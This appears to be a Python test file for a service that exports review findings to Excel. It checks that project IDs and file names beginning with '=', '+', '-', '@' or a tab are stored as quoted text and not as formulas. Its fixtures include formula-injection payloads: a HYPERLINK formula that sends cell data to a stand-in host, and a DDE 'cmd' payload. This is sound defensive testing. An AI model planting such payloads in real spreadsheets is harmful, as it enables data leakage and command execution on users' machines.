"""The findings export is inert: text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import copy
import io

from openpyxl import Workbook, load_workbook
from service_fixtures import DECLARATION, auth, contract_pdf, declaration_bytes, service, wait_done

from jianzheng.service.api.routes.export import inert

__all__ = ["service"]

HYPERLINK = '=HYPERLINK("http://x?"&A1,"点击核对")'
HOSTILE_IDS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
HOSTILE_FILE = "=1+2.pdf"


def _hostile_declaration() -> dict[str, object]:
    declaration = copy.deepcopy(DECLARATION)
    first = declaration["projects"][0]  # type: ignore[index]
    rows = [first] + [
        {**first, "name": f"{ident}系统建设项目{n}", "client": f"某单位{n}"}
        for n, ident in enumerate(HOSTILE_IDS)
    ]
    for row, ident in zip(rows, [*HOSTILE_IDS, "P9"], strict=False):
        row["id"] = ident
    declaration["projects"] = rows  # type: ignore[index]
    declaration["enterprise"]["legal_representative"] = "\t=1+1"  # type: ignore[index]
    return declaration


def _cells(book: Workbook) -> list:
    return [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]


def test_hostile_project_ids_and_file_names_stay_text_in_the_export(service):
    client, tokens = service
    files = [
        ("declaration", ("declaration.json", declaration_bytes(_hostile_declaration()), "application/json")),
        ("files", (HOSTILE_FILE, contract_pdf(), "application/pdf")),
    ]
    submission_id = client.post("/submissions", files=files, headers=auth(tokens["enterprise"])).json()["id"]
    assert wait_done(client, submission_id, tokens["enterprise"])["status"] == "done"
    response = client.get(f"/submissions/{submission_id}/findings.xlsx", headers=auth(tokens["reviewer"]))
    assert response.status_code == 200
    cells = _cells(load_workbook(io.BytesIO(response.content)))

    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    project_ids = {c.value for c in load_workbook(io.BytesIO(response.content))["问题清单"]["D"][1:]}
    assert set(HOSTILE_IDS) <= project_ids  # each id kept exactly as declared
    assert HOSTILE_FILE in values
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_inert_keeps_every_value_and_leaves_plain_text_and_numbers_alone():
    book = Workbook()
    sheet = book.active
    hostile = [HYPERLINK, "+1", "-1", "@A1", "\t=1", "\r=1"]
    sheet.append([*hostile, "合同金额", 42])
    inert(sheet)
    out = io.BytesIO()
    book.save(out)
    [line] = load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()
    assert [c.value for c in line] == [*hostile, "合同金额", 42]
    assert [c.data_type for c in line] == ["s"] * 7 + ["n"]
    assert [c.quotePrefix for c in line] == [True] * 6 + [False, False]
